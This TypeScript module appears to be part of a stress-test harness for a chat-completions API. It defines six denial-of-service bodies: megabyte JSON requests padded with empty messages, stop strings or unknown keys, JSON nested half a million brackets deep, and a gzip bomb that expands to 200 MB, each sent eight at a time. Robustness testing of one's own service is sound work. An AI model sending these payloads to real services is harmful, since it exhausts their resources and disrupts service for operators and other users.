// Bodies that cost more to read than to send, by a key without credit.
import { gzipSync } from 'node:zlib';
import { NANO } from './ground.ts';
import { post } from './post.ts';
import type { Attack, Round } from './round.ts';

const MIB = 1024 * 1024;

/** Eight at a time of a body, by a key without credit. */
function sendBodies(body: () => Uint8Array | string, headers: object = {}): (round: Round) => Promise<void> {
  return async (round) => {
    const { apiKey } = await round.makeCaller(0);
    const made = body();
    for (let waves = 0; waves < 3 && !round.isOver; waves++)
      await Promise.all(
        Array.from({ length: 8 }, () => post(round, '/v1/chat/completions', { key: apiKey, body: made, headers })),
      );
  };
}

/** A chat body of about a MiB whose text stands in this place. */
function fillBody(start: string, item: string, end: string): string {
  const count = Math.floor((MIB - 1000 - start.length - end.length) / (item.length + 1));
  return `{"model":"${NANO.id}",${start}${Array.from({ length: count }, () => item).join(',')}${end}}`;
}

const deep = (depth: number): string =>
  `{"model":"${NANO.id}","messages":[{"role":"user","content":${'['.repeat(depth)}${']'.repeat(depth)}}]}`;

const bomb = (): Uint8Array => gzipSync(Buffer.alloc(200 * MIB, 0x20));

export const BODIES: readonly Attack[] = [
  {
    name: 'empty-parts',
    does: 'eight bodies of a MiB at once: content of empty parts',
    run: sendBodies(() => fillBody('"messages":[{"role":"user","content":[', '{}', ']}]')),
  },
  {
    name: 'empty-messages',
    does: 'the same with empty messages',
    run: sendBodies(() => fillBody('"messages":[', '{}', ']')),
  },
  {
    name: 'empty-stops',
    does: 'the same with stops',
    run: sendBodies(() => fillBody('"messages":[{"role":"user","content":"x"}],"stop":[', '""', ']')),
  },
  {
    name: 'many-members',
    does: 'the same with members that nobody knows',
    run: sendBodies(() => {
      let i = 0;
      return fillBody('"messages":[{"role":"user","content":"x"}],"provider":{', '"0":0', '}').replace(
        /"0":0/g,
        () => `"${i++}":0`,
      );
    }),
  },
  { name: 'deep-json', does: 'bodies of half a million brackets in one another', run: sendBodies(() => deep(500_000)) },
  {
    name: 'packed-bodies',
    does: 'small packed bodies of 200 MB',
    run: sendBodies(bomb, { 'content-encoding': 'gzip' }),
  },
];
